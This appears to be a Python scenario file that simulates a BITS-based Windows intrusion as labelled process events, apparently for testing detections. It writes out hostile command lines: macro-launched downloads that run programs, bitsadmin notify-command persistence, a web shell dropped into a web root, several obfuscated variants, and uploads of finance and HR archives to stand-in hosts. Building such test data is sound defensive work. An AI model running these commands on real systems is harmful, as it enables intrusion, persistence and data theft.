"""What hides in the morning: one intrusion that moves by BITS.

Anna opens a macro document. Its helper sets up a BITS job that starts a program whenever the job
ends, and reaches the web server; her colleagues get mail of the same hand; archives leave from the
file server.
"""

from .background import console
from .machine import clock
from .scripts import POWERSHELL, encoded
from .servers import remote_hands


def intrusion(stage):
    _anna(stage["anna"])
    _web_server(stage["web"])
    _colleagues(stage)
    _file_server(stage["files"])


def _anna(session):
    host = session.host
    at = clock("08:41:12.4")
    folder = session.home + (
        "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3T9ZQ2H\\"
    )
    word = host.start(
        session.mail,
        at,
        "winword",
        '~ /n "%sRechnung_März_2026, korrigiert.docm" /o ""' % folder,
        life=900,
        directory=folder,
    )
    shell = host.start(
        word,
        at + 19.2,
        "powershell",
        "powershell.exe -NoProfile -WindowStyle Hidden -Command "
        '"Start-BitsTransfer -Source '
        "'http://cdn.updates.example.net/of/officeupd.exe' -Destination "
        r'$env:TEMP\officeupd.exe; Start-Process $env:TEMP\officeupd.exe"',
        life=40,
    )
    shell.abuse("download,executable,run-after", "Word's macro fetches a program and starts it")
    console(shell)
    helper = host.start(
        shell,
        at + 31.9,
        "dropped",
        r'"%s\AppData\Local\Temp\officeupd.exe" ' % session.home,
        life=7200,
    )
    host.start(
        helper,
        at + 40,
        "bitsadmin",
        'bitsadmin.exe /transfer "Office Update" /download /priority foreground '
        r"http://198.51.100.24/p/libsync.dll C:\Users\Public\Libraries\libsync.dll",
        life=9,
    ).abuse(
        "download,direct-ip,suspicious-folder",
        "the dropped helper fetches its second part from a bare address",
    )
    console(host.processes[-1])
    script = host.start(
        helper,
        at + 77,
        "cmd",
        r"C:\Windows\system32\cmd.exe /q /c C:\Users\Public\Libraries\sync.cmd",
        life=12,
    )
    console(script)
    chain = (
        ("/create /download EdgeSync", "create", "a job is made, named like a browser's own"),
        (
            "/addfile EdgeSync http://cdn.updates.example.net/of/none.dat "
            r"C:\Users\Public\Libraries\none.dat",
            "addfile",
            "a file that does not exist, so that the job keeps failing",
        ),
        (
            r'/SetNotifyCmdLine EdgeSync C:\Windows\system32\rundll32.exe "rundll32.exe '
            r'C:\Users\Public\Libraries\libsync.dll,Run"',
            "notify-command,persistence",
            "what BITS starts when the job ends: see the rundll32 under svchost -s BITS",
        ),
        ("/resume EdgeSync", "resume", "the job starts; from now on it survives a restart"),
    )
    for number, (words, behaviour, note) in enumerate(chain):
        host.start(
            script, at + 78 + 1.7 * number, "bitsadmin", "bitsadmin  " + words, life=1
        ).abuse(behaviour, note)
    # What the notify command then starts has no word of BITS in it; only its parent tells.
    for late in (clock("08:53:40"), clock("10:53:41")):
        host.start(
            session.machine.service("BITS"),
            late,
            "rundll32",
            r"rundll32.exe C:\Users\Public\Libraries\libsync.dll,Run",
            life=600,
            user=session.user,
            profile=session.profile,
            integrity="medium",
        )
    for number, (image, command) in enumerate(
        (
            ("whoami", "whoami /all"),
            ("net", 'net group "Domain Computers" /domain'),
            ("net", r"net view \\web01"),
        )
    ):
        tool = host.start(helper, at + 160 + 24 * number, image, command)
        if image == "net":
            host.start(
                tool, tool.seconds + 0.04, "net1", r"C:\Windows\system32\net1 " + command[4:]
            )


def _web_server(machine):
    host = machine.host
    at = clock("09:20:31")
    provider = host.start(
        machine.service("DcomLaunch"),
        at,
        "wmiprvse",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        life=200,
    )
    shell = host.start(
        provider,
        at + 4.6,
        "powershell",
        'powershell -nop -w hidden -c "St`Art-Bi`TsTr`Ansfer -Sou '
        r'http://198.51.100.24/w/health.aspx -Dest C:\inetpub\wwwroot\health.aspx"',
        life=9,
        user=r"CORP\svc-web",
        integrity="high",
    )
    shell.abuse(
        "download,direct-ip,web-root",
        "through WMI, a page that runs commands is put on the web server",
        hidden="backtick",
    )
    console(shell)
    worker = machine.intranet
    assert worker.seconds < at
    at = clock("09:27:05")
    carets = host.start(
        worker,
        at,
        "cmd",
        '"cmd.exe" /c p^ow^er^sh^ell -nop -c St^art-B^itsTra^ns^fer '
        r"http://203.0.113.77/t/tools.zip C:\Windows\Temp\tools.zip",
        life=30,
    )
    carets.abuse(
        "download,direct-ip,archive",
        "the page's first command; cmd.exe drops the carets",
        hidden="caret",
    )
    console(carets)
    plain = host.start(
        carets,
        at + 0.3,
        "powershell",
        "powershell  -nop -c Start-BitsTransfer http://203.0.113.77/t/tools.zip "
        r"C:\Windows\Temp\tools.zip",
        life=28,
    )
    plain.abuse(
        "download,direct-ip,archive", "the same command as its own process has it: in the clear"
    )
    copy = host.start(
        worker,
        at + 95,
        "cmd",
        r'"cmd.exe" /c copy /y C:\Windows\System32\bitsadmin.exe C:\ProgramData\upd.exe',
        life=1,
    )
    copy.lookalike("copy", "names bitsadmin but only copies it; the copy is used as upd.exe next")
    console(copy)
    launcher = host.start(worker, at + 112, "cmd", r'"cmd.exe" /c C:\ProgramData\upd.cmd', life=20)
    console(launcher)
    host.start(
        launcher,
        at + 112.4,
        "renamed",
        r"C:\ProgramData\upd.exe /transfer health /download /priority normal "
        r"http://203.0.113.77/t/agent.exe C:\ProgramData\agent.exe",
        life=15,
    ).abuse(
        "download,direct-ip,executable,renamed",
        "bitsadmin under another name: original_file_name tells",
    )


def _colleagues(stage):
    session = stage["jörg"]
    host = session.host
    shell = host.start(
        session.explorer,
        clock("09:48:17"),
        "powershell",
        "\"%s\" -w 1 -ep bypass -c \"$u='http://cdn.updates.example.net/'+'of/"
        r"viewer.exe';&('Start-Bi'+'tsTra'+'nsfer') $u $env:APPDATA\viewer.exe;saps "
        r'$env:APPDATA\viewer.exe"' % POWERSHELL,
        life=30,
        directory=session.home + "\\Desktop\\",
    )
    shell.abuse(
        "download,executable,run-after",
        "a shortcut from the attackers' mail",
        hidden="concatenation",
    )
    console(shell)

    session = stage["mei"]
    host = session.host
    script = host.start(
        session.explorer,
        clock("10:03:44"),
        "wscript",
        r'"C:\Windows\System32\WScript.exe" "%s\Downloads\报价单_2026.vbs" ' % session.home,
        life=60,
        directory=session.home + "\\Downloads\\",
    )
    shell = host.start(
        script,
        clock("10:03:46.2"),
        "powershell",
        "powershell.exe -NoP -W Hidden -Enc "
        + encoded(
            "Start-BitsTransfer -Source http://198.51.100.24/p/list.xlsm -Destination "
            r"$env:PUBLIC\Documents\list.xlsm -Priority High"
        ),
        life=20,
    )
    shell.abuse(
        "download,direct-ip,suspicious-folder",
        "a script posing as a quotation",
        hidden="encoded-command",
    )
    console(shell)

    session = stage["tomas"]
    host = session.host
    shell = host.start(
        session.explorer,
        clock("10:31:09"),
        "powershell",
        '"%s" -nop -c "$n=\'refsnarTstiB-tratS\';&(-join $n[-1..-($n.Length)]) '
        r'https://files.example.org/d/ref.cab C:\Users\Public\Music\ref.cab"' % POWERSHELL,
        life=20,
    )
    shell.abuse("download,archive,suspicious-folder", "recorded by 4688 only", hidden="reverse")
    console(shell)

    machine = stage["build"]
    host = machine.host
    node = machine.node
    shell = host.start(
        node,
        node.seconds + 33,
        "powershell",
        "powershell.exe -NoProfile -Command \"& ('{2}{0}{1}' -f "
        "'Bits','Transfer','Start-') -Source "
        r'https://files.example.org/npm/post.node -Destination $env:TEMP\post.node"',
        life=15,
    )
    shell.abuse("download", "a package's install script, out of npm", hidden="format")
    console(shell)


def _file_server(machine):
    host = machine.host
    remote = remote_hands(
        machine,
        clock("11:14:50"),
        r"CORP\svc-web",
        (
            ("net", r'"C:\Windows\system32\net.exe" share'),
            (
                "sevenzip",
                r'"C:\Program Files\7-Zip\7z.exe" a -mx=1 -v180m '
                r'D:\Shares\Austausch\~t\hr.7z "D:\Shares\Personal\Verträge"',
            ),
        ),
    )
    host.start(
        remote,
        clock("11:16:02"),
        "powershell",
        'powershell.exe -NonInteractive -Command "Compress-Archive -Path '
        r'D:\Shares\Finanzen\2026 -DestinationPath D:\Shares\Austausch\~t\fin-2026q1.zip"',
        life=50,
    )
    host.start(
        remote,
        clock("11:19:27"),
        "powershell",
        'powershell.exe -NonInteractive -Command "Start-BitsTransfer -TransferType '
        r"Upload -Source D:\Shares\Austausch\~t\fin-2026q1.zip -Destination "
        "https://files.example.org/drop/fin-2026q1.zip -DisplayName 'Font Download'\"",
        life=240,
    ).abuse("upload,archive-upload", "the quarter's finance folder leaves as a zip")
    host.start(
        remote,
        clock("11:24:40"),
        "powershell",
        r"powershell.exe -nop Start-BitsTransfer D:\Shares\Austausch\~t\hr.7z.001 "
        "https://203.0.113.77/u/hr.7z.001 -TransferT Upload -As -Pri Low",
        life=5,
    ).abuse(
        "upload,archive-upload,direct-ip,asynchronous",
        "parameters shortened as far as PowerShell allows",
    )
